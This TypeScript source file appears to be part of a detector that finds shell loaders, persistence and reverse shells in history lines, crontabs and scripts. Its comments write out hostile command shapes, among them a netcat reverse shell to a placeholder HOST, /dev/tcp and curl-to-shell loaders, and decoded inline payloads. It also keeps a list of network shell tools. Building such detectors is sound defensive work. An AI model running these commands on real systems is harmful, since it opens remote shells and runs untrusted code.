/**
 * Loaders in shell text: commands that fetch something and run it, run something that they decode, or hand a
 * shell to someone else. Used for history lines and start commands here, and for crontabs, units and scripts
 * by the `persistence` detector.
 *
 * One walk over the commands, in order: what each pipeline carries (`content.ts`), what is written to which file
 * (`files.ts`, `file-change.ts`), and what runs any of it.
 */
import { decodeCode, isReadable } from '../../indicator/code-payload.ts';
import { type Command, splitShell } from '../../indicator/shell.ts';
import { withoutBox } from '../../indicator/shell-output.ts';
import { programName, unwrapCommands } from '../../indicator/shell-unwrap.ts';
import { readCommand } from '../start/command.ts';
import { splitFormat } from '../start/formats.ts';
import { type Content, contentBehind, isForeign, nothingKnown, withoutText } from './content.ts';
import { namedByAddress } from './download.ts';
import { changeFiles, renamedProgram } from './file-change.ts';
import { type Files, noFiles, read, readProgram, startPlaceBelow } from './files.ts';
import { codeOf, commandsIn, fetchedBy, type InlineCode, runsDecoded } from './inline-code.ts';
import {
  download,
  endsOf,
  hiddenIn,
  type Loader,
  type Place,
  payload,
  withoutRepeats,
} from './loader-kind.ts';
import { isHostile } from './payload.ts';
import { codeLanguage, interpreter, isSettings, readsProgram, shells } from './program.ts';
import { isReverseShell } from './reverse-shell.ts';

export type { Loader } from './loader-kind.ts';

/** Payloads in payloads that are decoded. */
const maxLayers = 3;
/** Characters that are read of payloads, files and code inside one text, all together. */
const maxInside = 512 * 1024;

/** One for each pipeline, in order. @param end of the text, for lengths */
export function loadersOf(commands: readonly Command[], end: number): readonly Loader[] {
  return walk(commands, end, { layer: 0, budget: { text: maxInside } });
}

/** Where the walk is: how deep in payloads, and what may still be read of texts inside the text, in characters. */
interface Depth {
  readonly layer: number;
  readonly budget: { text: number };
}

/** What the commands so far have left. */
interface State extends Depth {
  readonly files: Files;
  /** Programs that the text gave another name. */
  readonly renamed: Map<string, string>;
  /** Folders that the text added to PATH. */
  readonly path: string[];
  /** What was said of a content before: a file may run many times. */
  readonly judged: Map<Content, readonly Loader[]>;
}

/** What comes out of the pipeline so far. */
interface Flow {
  readonly offset: number;
  readonly content: Content;
  /** An interactive shell writes it, and reads from elsewhere: one half of a reverse shell. */
  readonly shell: boolean;
}

function walk(commands: readonly Command[], end: number, depth: Depth): readonly Loader[] {
  const state: State = { ...depth, files: noFiles(), renamed: new Map(), path: [], judged: new Map() };
  const found: Loader[] = [];
  const flat = unwrapCommands(commands);
  const ends = endsOf(flat, end);
  const payloads = new Map<string, Place>();
  let flow = noFlow;
  for (const [index, one] of flat.entries()) {
    const command = withOwnName(one, state);
    if (command.joined !== '|') flow = { offset: command.offset, content: nothingKnown, shell: false };
    const place = { offset: flow.offset, length: Math.max(1, (ends[index] ?? end) - flow.offset) };
    const next = isRead(command, flat[index + 1]) ? nextFlow(flow, command, state) : noFlow;
    const loaders = loadersIn(command, flow, next, place, state);
    if (command.payload !== undefined && loaders.length === 0 && isHostile(command))
      found.push(payload('hostile', command.payload, place));
    if (command.payload !== undefined && !payloads.has(command.payload)) payloads.set(command.payload, place);
    for (const loader of loaders)
      found.push(command.payload === undefined ? loader : hiddenIn(command.payload, loader));
    flow = next;
  }
  for (const [text, place] of payloads)
    if (!found.some((one) => one.offset === place.offset)) found.push(payload('harmless', text, place));
  return withoutRepeats(found);
}

const noFlow: Flow = { offset: 0, content: nothingKnown, shell: false };

/** Whether it matters what a command writes: most commands are in no pipeline. */
function isRead({ words, redirects }: Command, following: Command | undefined): boolean {
  return following?.joined === '|' || redirects.length > 0 || writers.has(programName(withoutBox(words)[0]));
}

/** Programs that are told by an argument where to put what they read. */
const writers = new Set(['tee', 'dd', 'sponge', 'openssl', 'gpg', 'gpg2']);

function withOwnName(command: Command, state: State): Command {
  const name = programName(command.words[0]);
  const renamed = renamedProgram(command);
  if (renamed !== undefined && state.renamed.size < 100) state.renamed.set(...renamed);
  const known = state.renamed.get(name);
  return known === undefined ? command : { ...command, words: [known, ...command.words.slice(1)] };
}

function nextFlow(flow: Flow, command: Command, state: State): Flow {
  state.budget.text -= flow.content.text?.length ?? 0;
  const before = state.budget.text > 0 ? flow.content : withoutText(flow.content);
  const content = contentBehind(command, before, (path) => read(state.files, path));
  const interactive = shells.has(programName(command.words[0])) && command.words.includes('-i');
  return { offset: flow.offset, content, shell: flow.shell || interactive };
}

function loadersIn(command: Command, flow: Flow, next: Flow, place: Place, state: State): readonly Loader[] {
  const found: Loader[] = [];
  const name = programName(command.words[0]);
  rememberPath(command, state);
  if (isReverseShell(command) || (flow.shell && connectors.has(name))) {
    found.push({ ...download([], place), kind: 'reverse-shell' });
  } else {
    const input = readsProgram(command) ? { ...flow.content, ...fromRedirect(command, state) } : undefined;
    if (input !== undefined) found.push(...ofContent(input, name, place, state));
    if (found.length === 0) found.push(...ofWords(command, place, state), ...ofFiles(command, place, state));
    const inline = codeOf(command.words);
    if (found.length === 0 && inline !== undefined) found.push(...ofCode(inline, place, state));
    const named = found.length === 0 ? namedByAddress(command.words) : undefined;
    if (named !== undefined) found.push({ ...download(named.urls, place), installed: named.installed });
  }
  const output = name === 'crontab' ? flow.content : next.content;
  found.push(...planted(command, flow, output, place, state));
  return found;
}

/** `PATH=$PATH:/tmp x`, `export PATH=…`. */
function rememberPath(command: Command, state: State): void {
  const words = command.words.find((word) => word.startsWith('PATH='))?.slice('PATH='.length);
  const value = command.assignments.PATH ?? words;
  if (value !== undefined && state.path.length < 50)
    state.path.push(...value.slice(0, 4096).split(':').slice(0, 50));
}

/** `mkfifo f; cat f | sh -i | nc HOST PORT > f`: they carry a shell to where it is not. */
const connectors = new Set('nc ncat netcat nc.traditional nc.openbsd telnet socat openssl'.split(' '));

/** `sh < /tmp/x`, `sh < /dev/tcp/HOST/PORT`. */
function fromRedirect(command: Command, state: State): Content | undefined {
  if (!command.redirects.some((one) => one.operator === '<')) return undefined;
  const reader: Command = { ...command, words: ['cat'] };
  return contentBehind(reader, nothingKnown, (path) => read(state.files, path));
}

/** Something that came from elsewhere is run by a program. */
function ofContent(
  content: Content,
  program: string,
  place: Place,
  state: State,
  installed = false,
): readonly Loader[] {
  if (content.text !== undefined && isReadable(content.text))
    return ofText(content, content.text, program, place, state);
  const known = content.text !== undefined && content.decoded;
  if (content.sealed || known) return [payload('hostile', undefined, place)];
  if (content.urls.length > 0) return [ofDownload(content, place, installed || content.unpacked)];
  return content.decoded ? [payload('unknown', undefined, place)] : [];
}

function ofDownload({ urls, insecure, veiled }: Content, place: Place, installed: boolean): Loader {
  const loader = { ...download(urls, place), insecure, installed };
  // Whoever hides the name of the program has no good reason.
  return veiled && ['official', 'variable', 'named', 'hosted'].includes(loader.origin)
    ? { ...loader, origin: 'plain' }
    : loader;
}

/** A text that is known is judged by what it does. */
function ofText(
  content: Content,
  text: string,
  program: string,
  place: Place,
  state: State,
): readonly Loader[] {
  const known = state.judged.get(content);
  const found = known ?? judge(content, text, program, place, state);
  if (known === undefined) state.judged.set(content, found);
  return found.map((one) => ({ ...one, ...place }));
}

function judge(
  content: Content,
  text: string,
  program: string,
  place: Place,
  state: State,
): readonly Loader[] {
  if (state.layer >= maxLayers || text.length > state.budget.text) return [];
  state.budget.text -= text.length;
  const depth = { layer: state.layer + 1, budget: state.budget };
  const isCode = interpreter.test(program);
  const language = program.replace(/[\d.]+$/, '');
  const inner = isCode
    ? ofCode({ language, code: text, encoded: false }, place, { ...state, ...depth })
    : walk(splitShell(text), text.length, depth);
  if (!content.decoded) return inner;
  if (inner.length > 0) return inner.slice(0, 1).map((one) => hiddenIn(text, one));
  const hostile = !isCode && unwrapCommands(splitShell(text)).some(isHostile);
  return [payload(hostile ? 'hostile' : 'harmless', text, place)];
}

/** `sh -c "$(curl …)"`, `bash <(curl …)`, `eval`: substitutions whose output is run. */
function ofWords(command: Command, place: Place, state: State): readonly Loader[] {
  const name = programName(command.words[0]);
  const runs = shells.has(name) || interpreter.test(name) || ['eval', 'source', '.', 'exec'].includes(name);
  for (const word of runs ? command.words.slice(1) : command.words.slice(0, 1)) {
    if (!/^\s{0,20}(?:\$\(|<\(|`)/.test(word) || word.length > state.budget.text) continue;
    state.budget.text -= word.length;
    const inner = unwrapCommands(splitShell(word).filter((one) => one.depth > 0));
    const content = inner.reduce(
      (sum, one) =>
        contentBehind(one, one.joined === '|' || one.joined === '||' ? sum : nothingKnown, (path) =>
          read(state.files, path),
        ),
      nothingKnown,
    );
    const found = isForeign(content)
      ? ofContent(content, runs && interpreter.test(name) ? name : 'sh', place, state)
      : [];
    if (found.length > 0) return found;
  }
  return [];
}

/** A file that the same text fetched or wrote before: `./x`, `/tmp/x`, `sh x`, `x` in a folder of PATH. */
function ofFiles(command: Command, place: Place, state: State): readonly Loader[] {
  const { files } = state;
  if (files.byName.size === 0 && files.folders.length === 0) return [];
  const [program = ''] = command.words;
  for (const use of readCommand(withoutBox(command.words))) {
    if (use.kind !== 'run') continue;
    const bare = !/[/$]/.test(use.name) && use.name === program;
    const content = bare ? readProgram(files, use.name, state.path) : read(files, use.name);
    if (content === undefined || isSettings(program, use.name)) continue;
    const runner = use.name === program ? 'sh' : programName(program);
    const found = ofContent(content, runner, place, state, bare);
    if (found.length > 0) return found;
  }
  const library = command.assignments.LD_PRELOAD;
  const loaded = library === undefined ? undefined : read(files, library);
  return loaded === undefined ? [] : ofContent(loaded, '', place, state);
}

/** `python -c "exec(urlopen('…').read())"`, `perl -e 'eval decode_base64("…")'`, `node -e 'execSync("curl …")'`. */
function ofCode(inline: InlineCode, place: Place, state: State): readonly Loader[] {
  const { code, language } = inline;
  if (state.layer >= maxLayers || code.length > state.budget.text) return [];
  state.budget.text -= code.length;
  const depth = { layer: state.layer + 1, budget: state.budget };
  const found = walk(commandsIn(inline), code.length, depth).map((one) => ({ ...one, ...place }));
  const urls = fetchedBy(inline);
  if (urls.length > 0) found.push(download(urls, place));
  if (found.length === 0 && runsDecoded(inline)) {
    const text = decodeCode(code);
    if (text === undefined) found.push(payload('unknown', undefined, place));
    else if (!isReadable(text)) found.push(payload('hostile', undefined, place));
    else
      found.push(
        ...ofText({ ...nothingKnown, decoded: true }, text, codeLanguage(text, language), place, state),
      );
  }
  return inline.encoded ? found.map((one) => hiddenIn(code, one)) : found;
}

/** Files that were written to a place from which they will be started, and crontabs. */
function planted(
  command: Command,
  flow: Flow,
  output: Content,
  place: Place,
  state: State,
): readonly Loader[] {
  const paths = changeFiles(state.files, command, flow.content, output);
  const crontab = programName(command.words[0]) === 'crontab' ? crontabOf(command, flow, state) : undefined;
  const found = paths.flatMap((path) => {
    const content = read(state.files, path);
    return content === undefined ? [] : ofPlanted(content, path, place, state);
  });
  return crontab === undefined
    ? found
    : [...found, ...ofPlanted(crontab, '/var/spool/cron/crontabs/root', place, state)];
}

function crontabOf(command: Command, flow: Flow, state: State): Content | undefined {
  const args = command.words.slice(1).filter((word, at) => word !== '-u' && command.words[at] !== '-u');
  if (args.length === 0 || args[0] === '-')
    return command.joined === '|' ? flow.content : fromRedirect(command, state);
  return args[0]?.startsWith('-') ? undefined : read(state.files, args[0] ?? '');
}

function ofPlanted(content: Content, path: string, place: Place, state: State): readonly Loader[] {
  const start = startPlaceBelow(path);
  if (start === undefined) return [];
  const { text } = content;
  if (text === undefined || !isReadable(text)) return ofContent(content, '', place, state, true);
  if (state.layer >= maxLayers || text.length > state.budget.text) return [];
  state.budget.text -= text.length;
  const depth = { layer: state.layer + 1, budget: state.budget };
  const inner = walk(splitFormat(text, start.format, path), text.length, depth);
  return inner.map((one) => ({ ...(content.decoded ? hiddenIn(text, one) : one), ...place }));
}
